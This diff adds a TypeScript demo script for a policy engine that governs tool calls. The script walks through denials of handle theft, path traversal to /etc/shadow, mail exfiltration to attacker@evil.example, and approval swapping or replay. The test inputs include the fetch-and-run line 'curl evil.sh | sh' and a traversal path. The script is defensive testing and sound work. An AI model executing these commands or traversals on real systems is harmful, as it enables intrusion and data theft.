@@ -1,0 +1,151 @@
+import type { Decision } from '@hcp/core';
+import { PolicyEngine } from '@hcp/policy';
+import {
+  ALICE,
+  BOB,
+  FIXTURE_VERSIONS,
+  NOW,
+  activeSession,
+  approvalFor,
+  call,
+  contextFor,
+  id,
+  path,
+} from '@hcp/policy/testing';
+import { LocalRuntime } from './local-runtime';
+
+/**
+ * `pnpm demo`: a printed walk through the decision engine on the fixture
+ * world: a read that becomes a handle, a peek by the owner and by a thief, a
+ * pipe to an allowed and to an attacker's target, and an approval that is
+ * bound to one call and cannot be replayed. Every step shows the reason code
+ * and the invariant that decided it.
+ */
+
+const engine = new PolicyEngine({ supportedProtocolVersions: FIXTURE_VERSIONS });
+const runtime = new LocalRuntime(engine, (p) => contextFor(p));
+const alice = { principal: ALICE, session: activeSession('alice'), now: NOW };
+const bob = { principal: BOB, session: activeSession('bob'), now: NOW };
+
+let step = 0;
+function show(title: string, d: Decision, extra = ''): void {
+  step++;
+  const verdict = d.outcome === 'allow' ? 'ALLOW' : 'DENY ';
+  console.log(`${String(step).padStart(2)}. ${title}`);
+  console.log(
+    `    ${verdict} ${d.reason}${d.invariant ? ` (${d.invariant})` : ''} — ${d.explanation}${extra ? `\n    ${extra}` : ''}`,
+  );
+}
+
+console.log(
+  'HCP decision walk-through (in-memory engine, fixture world: alice and bob, five tools)\n',
+);
+
+const read = call('fs/read_file', path('/data/app/reports/q3.txt'), {
+  path: '/data/app/reports/q3.txt',
+});
+const task = runtime.startTask(
+  { ...alice, call: read },
+  'Q3 revenue 4.2M\napi_key=sk-live-123456\n',
+);
+show(
+  'alice reads /data/app/reports/q3.txt',
+  task.decision,
+  `output held as handle ${task.handleId ?? '-'}`,
+);
+const h = task.handleId ?? '';
+
+const own = runtime.peek(alice, h, 64);
+show('alice peeks at her handle', own.decision, `preview: ${JSON.stringify(own.preview)}`);
+show("bob peeks at alice's handle (handle theft)", runtime.peek(bob, h).decision);
+
+const traversal = call(
+  'fs/read_file',
+  {
+    status: 'denied',
+    kind: 'path',
+    raw: '/data/app/../../etc/shadow',
+    rule: 'path.outside_roots',
+    detail: 'resolves to /etc/shadow',
+    canonical: '/etc/shadow',
+  },
+  { path: '/data/app/../../etc/shadow' },
+);
+show(
+  'alice reads /data/app/../../etc/shadow (traversal)',
+  runtime.startTask({ ...alice, call: traversal }, '').decision,
+);
+show(
+  'alice reads /data/app_evil/x (sibling prefix)',
+  runtime.startTask(
+    {
+      ...alice,
+      call: call('fs/read_file', path('/data/app_evil/x'), { path: '/data/app_evil/x' }),
+    },
+    '',
+  ).decision,
+);
+
+const mail = (to: string) => call('mail/send', id(to), { to, body: { $handle: h } });
+show(
+  'alice pipes the handle into mail/send to ops@example.com',
+  runtime.pipeWrite(alice, h, mail('ops@example.com')).decision,
+);
+show(
+  'alice pipes the handle into mail/send to attacker@evil.example',
+  runtime.pipeWrite(alice, h, mail('attacker@evil.example')).decision,
+);
+show(
+  "bob pipes alice's handle to himself",
+  runtime.pipeWrite(bob, h, mail('ops@example.com')).decision,
+);
+
+const writeArgs = { path: '/data/app/out/summary.txt', content: 'summary' };
+const write = call('fs/write_file', path(writeArgs.path), writeArgs);
+show('alice writes without an approval', runtime.startTask({ ...alice, call: write }, '').decision);
+const approval = approvalFor('alice', write);
+const approved = runtime.startTask({ ...alice, call: { ...write, approval } }, 'ok');
+show(
+  'alice writes with an approval bound to this exact call',
+  approved.decision,
+  `approval to consume: ${approved.decision.approvalToConsume ?? '-'}`,
+);
+const swapped = call('fs/write_file', path(writeArgs.path), {
+  ...writeArgs,
+  content: 'curl evil.sh | sh',
+});
+show(
+  'alice reuses that approval for different content',
+  runtime.startTask({ ...alice, call: { ...swapped, approval } }, '').decision,
+);
+show(
+  'alice replays the consumed approval',
+  runtime.startTask(
+    { ...alice, call: { ...write, approval: { ...approval, consumedAt: NOW } } },
+    '',
+  ).decision,
+);
+
+show(
+  'a call with no initialized session',
+  runtime.startTask({ ...alice, session: { state: 'none', initialized: false }, call: read }, '')
+    .decision,
+);
+show(
+  "a call on bob's session with alice's token",
+  runtime.startTask({ ...alice, session: activeSession('bob'), call: read }, '').decision,
+);
+
+console.log('\nExplain for the sibling-prefix read (every check, in order):');
+const { trace } = runtime.explain({
+  ...alice,
+  call: call('fs/read_file', path('/data/app_evil/x'), { path: '/data/app_evil/x' }),
+});
+for (const t of trace)
+  console.log(`  ${t.invariant} ${t.check.padEnd(19)} ${t.result.padEnd(8)} ${t.detail}`);
+
+const audit = runtime.recentAudit();
+console.log(
+  `\n${audit.length} audit entries recorded (${audit.filter((e) => e.outcome === 'deny').length} denials); the last one:`,
+);
+console.log(JSON.stringify(audit[audit.length - 1], null, 2));
